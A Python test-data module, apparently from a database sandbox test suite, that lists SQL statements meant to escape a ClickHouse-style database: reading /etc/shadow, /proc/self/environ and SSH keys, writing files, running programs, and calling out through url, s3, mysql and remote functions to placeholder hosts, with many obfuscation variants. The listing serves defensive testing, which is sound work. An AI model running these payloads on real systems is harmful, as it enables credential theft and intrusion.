# ruff: noqa: E501, S608 (the texts of attacks stand as they are sent)
"""What an enemy sends: statements and requests that try to leave the database, as data.

In the texts stand, for what a run has (`Place.fill`): `<secret>` a file outside with a secret,
`<folder>` the folder around it, `<own>` the engine's folder, `<t>` a table that must stay as it is,
`<url>` a listener, `<port>` its port, `<name>` a host name whose look-up would be a leak.
"""

from collections.abc import Mapping, Sequence
from typing import Final, NamedTuple


class Attack(NamedTuple):
    """A statement with its parameters and headers."""

    sql: str
    params: Mapping[str, str] = {}
    headers: Mapping[str, str] = {}
    method: str = "POST"


class Place(NamedTuple):
    """What the names in the texts stand for."""

    secret: str
    folder: str
    own: str
    table: str
    port: int

    def fill(self, text: str) -> str:
        """The text with its names replaced."""
        values = {
            "<secret>": self.secret,
            "<folder>": self.folder,
            "<own>": self.own,
            "<t>": self.table,
            "<url>": f"http://127.0.0.1:{self.port}",
            "<port>": str(self.port),
            "<name>": "secret.of.the.database.example",
        }
        for name, value in values.items():
            text = text.replace(name, value)
        return text

    def filled(self, attack: Attack) -> Attack:
        """The attack with its names replaced."""
        params = {name: self.fill(text) for name, text in attack.params.items()}
        headers = {name: self.fill(text) for name, text in attack.headers.items()}
        return Attack(self.fill(attack.sql), params, headers, attack.method)


def _each(sql: str, *params: Mapping[str, str]) -> list[Attack]:
    """The same statement with one setting or parameter after the other."""
    return [Attack(sql, one) for one in params]


_FILES: Final = (
    "<secret>",
    "file://<secret>",
    "<folder>/*",
    "<folder>/{secret,other}.csv",
    "<folder>/**",
    "<own>/../../../outside/secret.csv",
    "<own>/../password",
    "<own>/../../services.json",
    "<own>/../lock",
    "<own>/../logs/process.log",
    "/etc/passwd",
    "/etc/shadow",
    "/etc/hostname",
    "/proc/self/environ",
    "/proc/self/cmdline",
    "/proc/self/maps",
    "/proc/1/environ",
    "/proc/self/root<secret>",
    "/proc/self/cwd/password",
    "/proc/thread-self/environ",
    "/proc/self/task/*/environ",
    "/proc/net/tcp",
    "/dev/stdin",
    "/dev/stdout",
    "/dev/stderr",
    "/dev/fd/2",
    "/dev/fd/3",
    "/dev/mem",
    "/dev/tcp/127.0.0.1/<port>",
    "/root/.ssh/id_rsa",
    "/var/lib/cloud/instance/user-data.txt",
    "/sys/class/net/lo/address",
    "../../../../../../../../etc/passwd",
    "<secret>\\0.csv",
    "<secret> :: inside",
    "<folder>/archive.zip :: secret.csv",
)

READ_FILES: Final = [
    *(Attack(f"SELECT * FROM file('{path}', 'LineAsString', 'x String')") for path in _FILES),
    *(Attack(f"SELECT file('{path}')") for path in _FILES[:20]),
    Attack("SELECT FiLe('<secret>')"),
    Attack("SELECT/**/file/*(*/('<secret>')"),
    Attack("SELECT `file`('<secret>')"),
    Attack("SELECT \"file\"('<secret>')"),
    Attack("SELECT f\\u0069le('<secret>')"),
    Attack("SELECT \uff46ile('<secret>')"),
    Attack("SELECT file\u00a0('<secret>')"),
    Attack("SELECT file('<secret>', 'default')"),
    Attack("SELECT * APPLY(file) FROM (SELECT '<secret>')"),
    Attack("SELECT arrayMap(file, ['<secret>'])"),
    Attack("SELECT arrayMap(x -> file(x), ['<secret>'])"),
    Attack("SELECT arrayMap({f:Identifier}, ['<secret>'])", {"param_f": "file"}),
    Attack("SELECT arrayMap({f:Identifier}, ['<secret>'])", {"param_f": "`file`"}),
    Attack("SELECT arrayMap({f:Identifier}, ['<secret>'])", {"param_f": "fi\\x6ce"}),
    Attack("SELECT * FROM {f:Identifier}", {"param_f": "<secret>"}),
    Attack("SELECT arrayFold(file, ['<secret>'], '')"),
    Attack("SELECT arrayReduce('file', ['<secret>'])"),
    Attack("SELECT initializeAggregation('file', '<secret>')"),
    Attack("WITH file('<secret>') AS x SELECT x"),
    Attack("WITH (SELECT file('<secret>')) AS x SELECT x"),
    Attack("SELECT 1 WHERE file('<secret>') != ''"),
    Attack("SELECT 1 ORDER BY file('<secret>')"),
    Attack("SELECT 1 LIMIT length(file('<secret>'))"),
    Attack("SELECT count() FROM numbers(1) GROUP BY file('<secret>') WITH TOTALS"),
    Attack("SELECT number FROM numbers(1) QUALIFY file('<secret>') != ''"),
    Attack("SELECT sum(1) OVER (PARTITION BY file('<secret>'))"),
    Attack("SELECT * FROM '<secret>'"),
    Attack("SELECT * FROM `<secret>`"),
    Attack("SELECT * FROM default.`<secret>`"),
    Attack('SELECT * FROM "default".`<folder>/*.csv`'),
    Attack("FROM file('<secret>') SELECT *"),
    Attack("DESCRIBE TABLE file('<secret>')"),
    Attack("DESC file('<secret>', CSV)"),
    Attack("DESCRIBE (SELECT * FROM file('<secret>'))"),
    Attack("EXPLAIN SELECT * FROM file('<secret>')"),
    Attack("EXPLAIN PIPELINE SELECT file('<secret>')"),
    Attack("EXPLAIN AST SELECT file('<secret>')"),
    Attack("EXPLAIN SYNTAX SELECT file('<secret>')"),
    Attack("EXPLAIN QUERY TREE SELECT file('<secret>')"),
    Attack("EXPLAIN ESTIMATE SELECT * FROM file('<secret>')"),
    Attack("EXPLAIN TABLE OVERRIDE file('<secret>') COLUMNS (x String)"),
    Attack("EXPLAIN ANALYZE SELECT * FROM file('<secret>')"),
    Attack("SELECT * FROM viewExplain('EXPLAIN', '', (SELECT file('<secret>')))"),
    Attack("SELECT * FROM view(SELECT * FROM file('<secret>', LineAsString))"),
    Attack("SELECT * FROM viewIfPermitted(SELECT file('<secret>') ELSE null('x String'))"),
    Attack("SELECT * FROM loop(file('<secret>', LineAsString)) LIMIT 3"),
    Attack("SELECT 1 IN file('<secret>')"),
    Attack("SELECT 1 IN (SELECT * FROM file('<secret>', LineAsString))"),
    Attack("SELECT * FROM numbers(1) ARRAY JOIN [file('<secret>')] AS x"),
    Attack("SELECT * FROM numbers(1) JOIN file('<secret>', LineAsString) AS f ON 1"),
    Attack("SELECT 1 UNION ALL SELECT length(file('<secret>'))"),
    Attack("SELECT 1 EXCEPT SELECT length(file('<secret>'))"),
    Attack("SELECT 1; SELECT file('<secret>')"),
    Attack("SELECT 1;;;SELECT file('<secret>') --"),
    Attack("SELECT 1 PARALLEL WITH SELECT file('<secret>')"),
    Attack("SELECT 1 -- \u2028\nUNION ALL SELECT length(file('<secret>'))"),
    Attack("SELECT 1 # \nUNION ALL SELECT length(file('<secret>'))"),
    Attack("SELECT '\\'' , file('<secret>') , '\\''"),
    Attack("SELECT $a$ ' $a$, file('<secret>'), $a$ ' $a$"),
    Attack("SELECT \u2018 ' \u2019, file('<secret>'), ' '"),
    Attack("SELECT /* /* */ file('<secret>') /* */ */"),
    Attack("SELECT 1\0, file('<secret>')"),
    Attack("\ufeffSELECT file('<secret>')"),
    Attack("SELECT * FROM filesystem('<folder>')"),
    Attack("SELECT * FROM fileCluster('default', '<secret>', 'LineAsString', 'x String')"),
    Attack("SELECT * FROM sqlite('<folder>/secret.sqlite', 'secrets')"),
    Attack("SELECT * FROM icebergLocal('<folder>')"),
    Attack("SELECT * FROM deltaLakeLocal('<folder>')"),
    Attack("SELECT * FROM paimonLocal('<folder>')"),
    Attack("SELECT catboostEvaluate('<secret>', 1)"),
    Attack("SELECT * FROM eval('SELECT * FROM file(\\'<secret>\\', LineAsString)')"),
    Attack("SELECT addressToLine(toUInt64(1)), addressToLineWithInlines(toUInt64(1))"),
    Attack("SELECT showCertificate()"),
    Attack("SELECT getServerSetting('path')"),
    Attack("SELECT getMacro('path')"),
    Attack("SELECT regionToName(toUInt32(1))"),
    Attack("SELECT * FROM mergeTreeIndex('system', 'disks')"),
    Attack("SELECT * FROM mergeTreeCodecBlockCounts('portquorum', 'kept')"),
    Attack("SELECT * FROM system.stack_trace"),
    Attack("SELECT * FROM system.server_settings"),
    Attack("SELECT * FROM system.certificates"),
    Attack("SELECT * FROM system.jemalloc_profile_text"),
    Attack("SELECT toDateTime('2020-01-01 00:00:00', '../../../../../..<secret>')"),
    Attack("SELECT 1", {"session_timezone": "../../../../../..<secret>"}),
]

STRUCTURES: Final = [
    Attack(f"SELECT y FROM {function}")
    for function in (
        "values('x String, y String ALIAS file(\\'<secret>\\')', ('a'))",
        "values('x String, y String DEFAULT file(\\'<secret>\\')', ('a', 'b'))",
        "values('x String, y String MATERIALIZED file(\\'<secret>\\')', ('a'))",
        "values('x String, y String EPHEMERAL file(\\'<secret>\\')', ('a'))",
        "values('x String, y String ALI' || 'AS file(\\'<secret>\\')', ('a'))",
        "values(concat('x String, y String AL', 'IAS file(\\'<secret>\\')'), ('a'))",
        "values('x String, y String \\x41LIAS file(\\'<secret>\\')', ('a'))",
        "values('x String, y String \\101LIAS file(\\'<secret>\\')', ('a'))",
        "values(unhex('782055496e7438'), ('a'))",
        "values(('x String, y String ALIAS file(\\'<secret>\\')'), ('a'))",
        "values((('x String, y String ALIAS file(\\'<secret>\\')')), ('a'))",
        "values(['x String, y String ALIAS file(\\'<secret>\\')'][1], ('a'))",
        "values(('x String, y String ALIAS file(\\'<secret>\\')', 1).1, ('a'))",
        "values(CAST('x String, y String ALIAS file(\\'<secret>\\')' AS String), ('a'))",
        "values('x String, y String ALIAS file(\\'<secret>\\')'::String, ('a'))",
        "values({s:String}, ('a'))",
        "values($$x String, y String ALIAS file('<secret>')$$, ('a'))",
        "values('x String, y String/**/ALIAS/**/file(\\'<secret>\\')', ('a'))",
        "values('x String, y String\tALIAS\tfile(\\'<secret>\\')', ('a'))",
        "generateRandom('x String, y String ALIAS file(\\'<secret>\\')') LIMIT 1",
        "generateRandom(('x String, y String ALIAS file(\\'<secret>\\')')) LIMIT 1",
        "null('x String, y String ALIAS file(\\'<secret>\\')')",
        "format('CSV', 'x String, y String ALIAS file(\\'<secret>\\')', 'a')",
        "format(CSV, 'x String, y String ALIAS file(\\'<secret>\\')', 'a')",
        "format({f:String}, 'x String, y String ALIAS file(\\'<secret>\\')', 'a')",
        "fuzzJSON('x String, y String ALIAS file(\\'<secret>\\')')",
        "input('x String, y String ALIAS file(\\'<secret>\\')')",
        "SQLStandardValues('x String, y String ALIAS file(\\'<secret>\\')', ('a'))",
        "executable('cat', TSV, 'x String, y String ALIAS file(\\'<secret>\\')')",
    )
]
STRUCTURES += [
    Attack(
        "WITH 'x String, y String ALIAS file(\\'<secret>\\')' AS s SELECT y FROM values(s, ('a'))"
    ),
    Attack("SELECT * FROM format(CSV, 'a')", {"schema_inference_hints": "c1 String ALIAS file(1)"}),
    Attack(
        "SELECT * FROM format(CSV, 'a') SETTINGS schema_inference_hints = "
        "'y String DEFAULT file(\\'<secret>\\')'"
    ),
    Attack(
        "SELECT y FROM values({s:String}, ('a'))",
        {"param_s": "x String, y String ALIAS file('<secret>')"},
    ),
]

PROGRAMS: Final = [
    Attack(sql)
    for sql in (
        "SELECT * FROM executable('<folder>/run.sh', 'LineAsString', 'x String')",
        "SELECT * FROM executable('cat', 'LineAsString', 'x String', (SELECT 1))",
        "SELECT * FROM executable('sh -c \"touch <folder>/ran\"', TSV, 'x String')",
        "CREATE TABLE <t>x (a String) ENGINE = Executable('<folder>/run.sh', TSV)",
        "CREATE TABLE <t>x (a String) ENGINE = ExecutablePool('<folder>/run.sh', TSV)",
        "CREATE FUNCTION f LANGUAGE WASM FROM 'x'",
        "CREATE FUNCTION f AS x -> file(x)",
        "CREATE OR REPLACE FUNCTION read_it AS path -> arrayMap(file, [path])",
        "CREATE FUNCTION py LANGUAGE PYTHON AS 'import os'",
        "SELECT * FROM python(self)",
        "SELECT * FROM Python(sys)",
        "SELECT * FROM python (os)",
        "SELECT * FROM python/**/(os)",
        "SELECT * FROM `python`(os)",
        "SELECT 'pyth\\x6fn(sys)'",
        "SELECT * FROM numbers(1) AS `pyth\\x6fn(sys)`",
        "SELECT * FROM odbc('DSN=x', 't')",
        "SELECT * FROM jdbc('x', 't')",
        (
            "CREATE DICTIONARY <t>x (a UInt64, b String) PRIMARY KEY a "
            "SOURCE(EXECUTABLE(command 'touch <folder>/ran' format 'CSV')) LAYOUT(FLAT()) "
            "LIFETIME(0)"
        ),
        (
            "CREATE DICTIONARY <t>x (a UInt64, b String) PRIMARY KEY a "
            "SOURCE(EXECUTABLE_POOL(command 'touch <folder>/ran' format 'CSV' size 1)) "
            "LAYOUT(FLAT()) LIFETIME(0)"
        ),
        "SYSTEM RELOAD CONFIG",
        "SYSTEM RELOAD FUNCTIONS",
        "SYSTEM SHUTDOWN",
        "SYSTEM KILL",
        "SYSTEM SUSPEND FOR 5 SECOND",
        "SYSTEM START LISTEN HTTP",
        "SYSTEM STOP LISTEN",
        "SYSTEM JEMALLOC FLUSH PROFILE",
        "SYSTEM START THREAD FUZZER",
        "SYSTEM ENABLE FAILPOINT x",
        "SYSTEM FLUSH LOGS",
        "SYSTEM FREE MEMORY",
        "SYSTEM INSTRUMENT ADD 'main' LOG ENTRY 'x'",
    )
]

WRITE_FILES: Final = [
    *(
        Attack(f"{query} INTO OUTFILE '{path}'{mode}")
        for query in ("SELECT 'mar' || 'ked'", "DESCRIBE TABLE <t>", "SHOW TABLES")
        for path, mode in (
            ("<folder>/out.csv", ""),
            ("<secret>", " TRUNCATE"),
            ("<secret>", " APPEND"),
            ("<folder>/out.csv", " AND STDOUT"),
            ("<folder>/out.csv.gz", " COMPRESSION 'gzip' LEVEL 3 FORMAT CSV"),
            ("/dev/stderr", " APPEND"),
        )
    ),
    *(
        Attack(f"SELECT 1 INTO OUTFILE '/dev/fd/{number}' APPEND FORMAT TSV")
        for number in (0, 1, 2, 3)
    ),
    Attack("EXPLAIN SELECT 1 INTO OUTFILE '<folder>/out.csv'"),
    Attack("EXISTS TABLE <t> INTO OUTFILE '<own>/store/out'"),
    Attack("SHOW CREATE TABLE <t> INTO OUTFILE '<own>/metadata/portquorum/kept.sql' TRUNCATE"),
    Attack("SELECT 1 INTO OUTFILE '<own>/metadata/portquorum/kept.sql' TRUNCATE FORMAT CSV"),
    Attack("SELECT 1 INTO/**/OUTFILE '<secret>' APPEND"),
    Attack("SELECT 1 FORMAT JSON INTO OUTFILE '<folder>/out.csv'"),
    Attack("(SELECT 1) INTO OUTFILE '<folder>/out.csv'"),
    Attack("WITH 1 AS x SELECT x INTO OUTFILE '<folder>/out.csv'"),
    Attack("SELECT 1", {"default_format": "TSV; SELECT 'x' INTO OUTFILE '<folder>/o' FORMAT CSV"}),
    Attack("SELECT 1", {"default_format": "TSV INTO OUTFILE '<folder>/out.csv'"}),
    Attack(
        "SELECT 1",
        headers={"X-ClickHouse-Format": "TSV; SELECT 1 INTO OUTFILE '<folder>/out' FORMAT CSV"},
    ),
    Attack("SELECT 1 FORMAT `TSV INTO OUTFILE '<folder>/out.csv'`"),
    Attack("SELECT 1 SETTINGS output_format = 'TSV INTO OUTFILE'"),
    Attack("INSERT INTO FUNCTION file('<folder>/out.csv', 'CSV', 'a UInt8') SELECT 1"),
    Attack("INSERT INTO TABLE FUNCTION file('<secret>', 'CSV', 'a UInt8') VALUES (1)"),
    Attack("INSERT INTO FUNCTION file('/dev/stderr', 'TSV', 'a String') VALUES ('mar' || 'ked')"),
    Attack(
        "INSERT INTO FUNCTION file('<own>/x{_partition_id}', CSV, 'a Int8') PARTITION BY a VALUES (1)"
    ),
    Attack("INSERT INTO FUNCTION sqlite('<folder>/secret.sqlite', 'secrets') VALUES ('x')"),
    Attack("INSERT INTO <t> FROM INFILE '<secret>' FORMAT CSV"),
    Attack("INSERT INTO <t> FROM INFILE '<folder>/*' COMPRESSION 'none' FORMAT CSV"),
    Attack("INSERT INTO <t> SELECT length(file('<secret>')), ''"),
    Attack("INSERT INTO <t> VALUES (length(file('<secret>')), file('<secret>'))"),
    Attack("INSERT INTO <t> VALUES (1, (SELECT file('<secret>')))"),
    Attack(
        "INSERT INTO <t> SELECT * FROM input('a UInt64, b String DEFAULT file(\\'<secret>\\')') FORMAT CSV\n1"
    ),
    Attack("INSERT INTO <t> FORMAT Template\n1"),
    Attack(
        "SELECT * FROM format(TSV, 'x UInt8', 'abc\\n1\\n')",
        {
            "input_format_record_errors_file_path": "<folder>/e",
            "input_format_allow_errors_num": "5",
        },
    ),
    Attack(
        "SELECT * FROM format(TSV, 'x UInt8', 'abc\\n1\\n')",
        {"input_format_record_errors_file_path": "<own>/e", "input_format_allow_errors_num": "5"},
    ),
    Attack(
        "SELECT * FROM format(TSV, 'x UInt8', 'abc\\n1\\n') SETTINGS "
        "input_format_record_errors_file_path = '<folder>/e', input_format_allow_errors_num = 5"
    ),
    Attack("SELECT 1 AS x FORMAT Protobuf", {"output_format_schema": "<folder>/s.proto"}),
    Attack("SELECT 1 AS x FORMAT Protobuf", {"output_format_schema": "<own>/s.proto"}),
    Attack("SELECT 1 AS x FORMAT CapnProto", {"output_format_schema": "<secret>"}),
    Attack("SELECT 1 AS x FORMAT Protobuf SETTINGS format_schema = '<secret>:Message'"),
    Attack("SELECT 1 AS x FORMAT CapnProto", {"format_schema": "<secret>:Message"}),
    Attack("SELECT 1 AS x FORMAT Template", {"format_template_row": "<secret>"}),
    Attack("SELECT 1 AS x FORMAT Template SETTINGS format_template_resultset = '<secret>'"),
    Attack(
        "SELECT 1 AS x FORMAT ORC", {"output_format_orc_writer_time_zone_name": "../..<secret>"}
    ),
    Attack("SELECT 1 SETTINGS rename_files_after_processing = 'x%f'"),
    Attack("BACKUP TABLE <t> TO File('<folder>/backup')"),
    Attack("BACKUP TABLE <t> TO Disk('default', '../../backup')"),
    Attack("BACKUP DATABASE portquorum TO S3('<url>/b/k', 'x', 'y')"),
    Attack("BACKUP ALL TO Null"),
    Attack("BACKUP TABLE <t> TO Memory('x')"),
    Attack("RESTORE TABLE <t> FROM File('<folder>/backup')"),
    Attack("RESTORE ALL FROM Disk('default', '../../backup')"),
    Attack("ALTER TABLE <t>2 FREEZE WITH NAME '../../../../outside/frozen'"),
    Attack("ALTER TABLE <t>2 UNFREEZE WITH NAME '../../../../outside'"),
    Attack(
        "ALTER TABLE <t>2 DROP DETACHED PART '../../../../../outside' SETTINGS allow_drop_detached = 1"
    ),
    Attack("ALTER TABLE <t>2 ATTACH PART '../../../../../outside'"),
    Attack("ALTER TABLE <t>2 FETCH PARTITION tuple() FROM '<folder>'"),
    Attack("ALTER TABLE <t>2 EXPORT PART 'all_1_1_0' TO TABLE FUNCTION file('<folder>/part')"),
    Attack("ALTER TABLE <t>2 MOVE PARTITION tuple() TO DISK '<folder>'"),
    Attack("ALTER TABLE <t>2 MODIFY TTL toDateTime(a) TO DISK 'outside'"),
    Attack("ALTER TABLE <t>2 MODIFY TTL toDateTime(a) TO VOLUME 'outside'"),
    Attack("ALTER TABLE <t>2 MODIFY SETTING storage_policy = 'x'"),
    Attack("ALTER TABLE <t>2 MODIFY SETTING disk = disk(type = local, path = '<folder>/')"),
    Attack("ALTER TABLE <t>2 ADD COLUMN c String DEFAULT file('<secret>')"),
    Attack("ALTER TABLE <t>2 ADD COLUMN c String MATERIALIZED file('<secret>')"),
    Attack("ALTER TABLE <t>2 ADD CONSTRAINT c CHECK file('<secret>') != ''"),
    Attack("ALTER TABLE <t>2 ADD INDEX i file('<secret>') TYPE minmax"),
    Attack("ALTER TABLE <t>2 ADD PROJECTION p (SELECT file('<secret>') ORDER BY a)"),
    Attack("ALTER TABLE <t>2 UPDATE b = file('<secret>') WHERE 1"),
    Attack("ALTER TABLE <t>2 DELETE WHERE file('<secret>') = ''"),
    Attack("DELETE FROM <t>2 WHERE file('<secret>') = ''"),
    Attack("UPDATE <t>2 SET b = file('<secret>') WHERE 1"),
]

ENGINES: Final = [
    Attack(f"CREATE TABLE <t>x (a String) ENGINE = {engine}")
    for engine in (
        "File(CSV, '<secret>')",
        "`File`(CSV, '<secret>')",
        "File(CSV)",
        "FileLog('<folder>', 'CSV')",
        "URL('<url>/', CSV)",
        "URL('http://<name>/', CSV)",
        "S3('<url>/b/k', 'x', 'y', CSV)",
        "S3Queue('<url>/b/*', CSV) SETTINGS mode = 'unordered'",
        "AzureQueue('DefaultEndpointsProtocol=http', 'c', '*', CSV) SETTINGS mode = 'unordered'",
        "COSN('<url>/b/k', CSV)",
        "HDFS('hdfs://<name>:1/x', CSV)",
        "AzureBlobStorage('DefaultEndpointsProtocol=http', 'c', 'b')",
        "MySQL('<name>:1', 'd', 't', 'u', 'p')",
        "PostgreSQL('<name>:1', 'd', 't', 'u', 'p')",
        "MaterializedPostgreSQL('<name>:1', 'd', 't', 'u', 'p') PRIMARY KEY a",
        "MongoDB('<name>:1', 'd', 't', 'u', 'p')",
        "Redis('<name>:<port>') PRIMARY KEY a",
        "SQLite('<folder>/secret.sqlite', 'secrets')",
        "Kafka('<name>:<port>', 't', 'g', 'CSV')",
        "Distributed('default', 'system', 'one')",
        "Remote('127.0.0.1:<port>', 'system', 'one')",
        "IcebergLocal('<folder>')",
        "DeltaLakeLocal('<folder>')",
        "Iceberg('<url>/b')",
        "Hudi('<url>/b')",
        "DeltaLake('<url>/b')",
        "EmbeddedRocksDB(0, '<folder>/rocks') PRIMARY KEY a",
        "KeeperMap('/x') PRIMARY KEY a",
        "ODBC('DSN=x', 'd', 't')",
        "JDBC('<url>', 'd', 't')",
        "YTsaurus('<url>', '//x', 'y')",
        "ArrowStream('<url>')",
        "BigQuery('x', 'y', 'z')",
        "QueryRunner('SELECT file(\\'<secret>\\')')",
        "Alias('system', 'disks')",
        "Loop('system', 'disks')",
        "Merge('system', 'disks')",
        "Merge(REGEXP('.*'), 'disks')",
        "Merge(concat('sys', 'tem'), 'disks')",
        "Buffer('system', 'disks', 1, 1, 1, 1, 1, 1, 1)",
        "TimeSeries",
        "ReplicatedMergeTree('/x', 'y') ORDER BY a",
        "ReplicatedMergeTree('other:/x', 'y') ORDER BY a",
        "GraphiteMergeTree('<secret>') ORDER BY a",
        "MergeTree ORDER BY a SETTINGS disk = disk(type = local, path = '<folder>/')",
        "MergeTree ORDER BY a SETTINGS disk = disk(type = web, endpoint = '<url>/')",
        "MergeTree ORDER BY a SETTINGS disk = disk(type = s3, endpoint = '<url>/b/')",
        (
            "MergeTree ORDER BY a SETTINGS disk = disk(type = cache, disk = 'default', "
            "path = '<folder>/cache/', max_size = '1Mi')"
        ),
        "MergeTree ORDER BY a SETTINGS disk = disk(type = encrypted, disk = 'default', key = '1')",
        "MergeTree ORDER BY a SETTINGS table_disk = 1, disk = 'x'",
        "MergeTree ORDER BY a SETTINGS storage_policy = 'x'",
        "MergeTree ORDER BY a TTL toDateTime(a) TO DISK 'outside'",
        "Log SETTINGS disk = disk(type = local, path = '<folder>/')",
    )
]
ENGINES += [
    Attack(f"CREATE DATABASE outside ENGINE = {engine}")
    for engine in (
        "Filesystem('<folder>')",
        "SQLite('<folder>/secret.sqlite')",
        "MySQL('<name>:1', 'd', 'u', 'p')",
        "PostgreSQL('<name>:1', 'd', 'u', 'p')",
        "MaterializedPostgreSQL('<name>:1', 'd', 'u', 'p')",
        "S3('<url>/b')",
        "HDFS('hdfs://<name>:1')",
        "URL('<url>')",
        "Remote('127.0.0.1:<port>', 'system')",
        "DataLakeCatalog('<url>')",
        "Replicated('/x', 's', 'r')",
        "Backup('portquorum', File('<folder>/backup'))",
        "Dictionary",
        "Overlay('portquorum', 'system')",
        "Atomic SETTINGS disk = disk(type = local, path = '<folder>/')",
        "Ordinary SETTINGS disk = 'x'",
    )
]
ENGINES += [
    Attack(sql)
    for sql in (
        "CREATE TABLE <t>x AS file('<secret>', LineAsString)",
        "CREATE TABLE <t>x AS url('<url>/', LineAsString)",
        "CREATE TABLE <t>x ENGINE = Memory AS SELECT file('<secret>') AS a",
        "CREATE TABLE <t>x (a String DEFAULT file('<secret>')) ENGINE = Memory",
        "CREATE TABLE <t>x CLONE AS system.disks",
        "CREATE TEMPORARY TABLE x (a String) ENGINE = File(CSV)",
        "ATTACH TABLE <t>x (a String) ENGINE = File(CSV, '<secret>')",
        "ATTACH TABLE <t>x FROM '<folder>' (a String) ENGINE = MergeTree ORDER BY a",
        "ATTACH TABLE <t>x FROM '../../../outside' (a String) ENGINE = MergeTree ORDER BY a",
        "ATTACH DATABASE outside ENGINE = Filesystem('<folder>')",
        "CREATE VIEW <t>x AS SELECT file('<secret>')",
        "CREATE VIEW <t>x AS SELECT * FROM file({p:String})",
        "CREATE VIEW <t>x SQL SECURITY NONE AS SELECT * FROM file('<secret>')",
        "CREATE MATERIALIZED VIEW <t>x ENGINE = File(CSV) AS SELECT a FROM <t>2",
        "CREATE MATERIALIZED VIEW <t>x TO FUNCTION file('<folder>/mv') AS SELECT a FROM <t>2",
        (
            "CREATE MATERIALIZED VIEW <t>x REFRESH EVERY 1 SECOND ENGINE = Memory "
            "AS SELECT file('<secret>') AS a"
        ),
        "CREATE LIVE VIEW <t>x AS SELECT file('<secret>')",
        "CREATE WINDOW VIEW <t>x AS SELECT file('<secret>')",
        "CREATE NAMED COLLECTION n AS url = '<url>'",
        "CREATE USER u IDENTIFIED WITH no_password",
        "CREATE USER u IDENTIFIED WITH http SERVER 'x'",
        "CREATE QUOTA q KEYED BY ip_address",
        "CREATE WORKLOAD all",
        "CREATE RESOURCE r (READ DISK default)",
        "GRANT ALL ON *.* TO default",
        "EXECUTE AS portquorum SELECT 1",
        "EXECUTE IMMEDIATE 'SELECT 1'",
        "MOVE USER x TO local_directory",
        "WATCH <t>",
        "DROP DATABASE default",
        "CREATE INDEX i ON <t>2 (file('<secret>')) TYPE minmax",
    )
]

DICTIONARIES: Final = [
    Attack(
        "CREATE OR REPLACE DICTIONARY <t>x (a UInt64, b String) PRIMARY KEY a "
        f"SOURCE({source}) LAYOUT({layout}) LIFETIME(0)"
    )
    for source, layout in (
        ("FILE(path '<secret>' format 'CSV')", "FLAT()"),
        ("HTTP(url '<url>/' format 'CSV')", "FLAT()"),
        ("HTTP(url 'http://<name>/' format 'CSV')", "FLAT()"),
        ("MYSQL(host '<name>' port 1 user 'u' password '' db 'd' table 't')", "FLAT()"),
        ("POSTGRESQL(host '<name>' port 1 user 'u' password '' db 'd' table 't')", "FLAT()"),
        ("MONGODB(uri 'mongodb://<name>/x' collection 'c')", "FLAT()"),
        ("REDIS(host '127.0.0.1' port <port> storage_type 'simple' db_index 0)", "FLAT()"),
        ("CASSANDRA(host '<name>' port 1 keyspace 'k' column_family 'c')", "FLAT()"),
        ("ODBC(connection_string 'DSN=x' table 't')", "FLAT()"),
        ("YAMLREGEXPTREE(path '<secret>')", "REGEXP_TREE()"),
        ("CLICKHOUSE(host '127.0.0.1' port <port> table 'one')", "FLAT()"),
        ("CLICKHOUSE(host '<name>' port 1 user 'x' table 'one' db 'system')", "FLAT()"),
        ("CLICKHOUSE(QUERY 'SELECT 1 AS a, file(\\'<secret>\\') AS b')", "FLAT()"),
        (
            "CLICKHOUSE(TABLE 'kept' DB 'portquorum' WHERE 'file(\\'<secret>\\') = \\'\\'')",
            "FLAT()",
        ),
        ("CLICKHOUSE(TABLE 'kept' DB 'portquorum' INVALIDATE_QUERY 'SELECT file(1)')", "FLAT()"),
        ("CLICKHOUSE(TABLE 'disks' DB 'system')", "FLAT()"),
        ("CLICKHOUSE(TABLE 'disks' DB 'sys\\x74em')", "FLAT()"),
        ("CLICKHOUSE(NAME n)", "FLAT()"),
        ("NULL()", "SSD_CACHE(BLOCK_SIZE 4096 FILE_SIZE 16777216 PATH '<folder>/ssd')"),
        ("NULL()", "SSD_CACHE(BLOCK_SIZE 4096 FILE_SIZE 16777216 PATH '<own>/ssd')"),
        ("NULL()", "COMPLEX_KEY_SSD_CACHE(FILE_SIZE 16777216 PATH '<folder>/ssd')"),
    )
]
DICTIONARIES += [
    Attack("SELECT dictGet('<t>x', 'b', toUInt64(1))"),
    Attack("SELECT * FROM dictionary('<t>x')"),
    Attack("SYSTEM RELOAD DICTIONARIES"),
    Attack("DROP DICTIONARY IF EXISTS <t>x"),
]

OTHER_HOSTS: Final = [
    Attack(f"SELECT * FROM {function}")
    for function in (
        "url('<url>/', 'LineAsString', 'x String')",
        "url('http://<name>/', 'LineAsString', 'x String')",
        "url('http://[::1]:<port>/', LineAsString)",
        "url('http://localhost:<port>/', LineAsString)",
        "url('ftp://127.0.0.1:<port>/', LineAsString)",
        "url('file://<secret>', LineAsString)",
        "url('http://127.0.0.1:{<port>,53}/', LineAsString)",
        "url('<url>/', LineAsString, headers('x' = 'y'))",
        "urlCluster('default', '<url>/', 'LineAsString', 'x String')",
        "s3('<url>/b/k', 'x', 'y', 'CSV', 'a String')",
        "s3('s3://<name>/k', NOSIGN, 'CSV', 'a String')",
        "s3Cluster('default', '<url>/b/k', 'CSV', 'a String')",
        "gcs('<url>/b/k', NOSIGN, 'CSV', 'a String')",
        "oss('<url>/b/k', NOSIGN, 'CSV', 'a String')",
        "cosn('<url>/b/k', NOSIGN, 'CSV', 'a String')",
        "hdfs('hdfs://<name>:<port>/x', 'CSV', 'a String')",
        "hdfsCluster('default', 'hdfs://<name>:1/x', 'CSV', 'a String')",
        "azureBlobStorage('<url>', 'c', 'b', 'acc', 'a2V5', 'CSV', 'auto', 'a String')",
        "mysql('<name>:<port>', 'd', 't', 'u', 'p')",
        "mysql('127.0.0.1:<port>', 'd', 't', 'u', 'p')",
        "postgresql('<name>:<port>', 'd', 't', 'u', 'p')",
        "postgresql('127.0.0.1:<port>', 'd', 't', 'u', 'p')",
        "mongodb('127.0.0.1:<port>', 'd', 't', 'u', 'p', 'x String')",
        "redis('127.0.0.1:<port>', 'k', 'k String')",
        "remote('127.0.0.1:<port>', system.one)",
        "remote('<name>:<port>', system.one)",
        "remote('127.0.0.{1..3}:<port>', system.one)",
        "remote('addresses_expr', view(SELECT file('<secret>')))",
        "remoteSecure('127.0.0.1:<port>', system.one)",
        "cluster('default', system.one)",
        "clusterAllReplicas('default', system.disks)",
        "iceberg('<url>/b')",
        "icebergS3('<url>/b', 'x', 'y')",
        "icebergAzure('<url>', 'c', 'b')",
